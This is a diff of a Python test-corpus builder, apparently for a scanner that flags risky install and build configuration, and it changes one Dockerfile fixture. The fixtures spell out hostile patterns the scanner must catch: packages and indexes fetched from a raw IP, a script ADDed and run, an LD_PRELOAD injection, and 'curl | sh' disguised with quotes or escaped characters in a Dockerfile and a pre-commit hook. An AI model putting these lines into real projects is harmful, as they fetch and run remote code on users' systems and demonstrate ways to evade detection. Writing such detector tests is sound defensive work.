@@ -75,7 +75,7 @@ def make(corpus):
     poetry = '[tool.poetry]\nname = "a"\n[tool.poetry.dependencies]\nx = {url = "http\\u003a//198.51.100.7/x.tar.gz"}\n'
     corpus.folder("spellings", "poetry", {"pyproject.toml": poetry}, "found", "a package from an address, in Poetry's table and by an escape")
     corpus.folder("spellings", "uv", {"pyproject.toml": '[project]\nname = "a"\n[[tool.uv.index]]\nurl = "http://198.51.100.7/simple"\ndefault = true\n'}, "found", "an index in uv's table")
-    corpus.folder("spellings", "added", {"Dockerfile": "FROM x\nADD http://198.51.100.7/x /x\nRUN sh /x\n"}, "found", "a script that is added by its address and run")
+    corpus.folder("spellings", "added", {"Dockerfile": "FROM x\nADD http://198.51.100.7/setup.sh /opt/\nRUN sh /opt/setup.sh\n"}, "found", "a script that is added by its address and run")
     corpus.folder("spellings", "preloaded", {"Dockerfile": "FROM x\nENV A=1 LD_PRELOAD=/tmp/x.so\n"}, "found", "several variables in one line, one of which is loaded into every program")
     corpus.folder("spellings", "written", {"Dockerfile": "FROM x\nRUN c'u'rl http://198.51.100.7/x | s''h\n"}, "found", "quotes within the names of programs")
     hook = "repos:\n- repo: local\n  hooks:\n  - id: a\n    name: a\n    language: system\n    entry: bash\n    args: [-c, \"curl http\\x3a//198.51.100.7/x | sh\"]\n"
